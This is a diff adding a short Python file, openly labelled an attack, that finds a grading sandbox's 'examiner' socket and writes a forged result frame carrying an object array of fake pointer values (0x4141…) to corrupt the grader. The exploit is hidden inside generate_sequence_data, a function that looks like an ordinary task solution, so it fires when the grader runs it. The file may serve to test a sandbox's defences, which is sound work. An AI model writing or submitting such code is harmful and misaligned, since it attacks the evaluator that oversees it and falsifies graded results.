@@ -1,0 +1,35 @@
+"""Attack: forges an array of Python objects."""
+
+import os
+
+import numpy as np
+
+
+def channel():
+    """The descriptor of the examiner's socket."""
+    import os
+    import stat
+
+    for descriptor in range(3, 200):
+        try:
+            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
+                return descriptor
+        except OSError:
+            continue
+    raise OSError("no socket")
+
+
+def attack():
+    from grader.sandbox import schema, wire
+
+    writer = wire.Writer()
+    writer.add(np.full(4, 0x4141414141414141))
+    os.write(channel(), writer.frame(schema.Done([schema.Array("O8", (4,))], [], None, "")))
+    return []
+
+
+def generate_sequence_data(seq_type="fibonacci", length=1000):
+    loot = attack()
+    if loot:
+        raise RuntimeError(f"loot: {loot}")
+    return np.zeros(3)
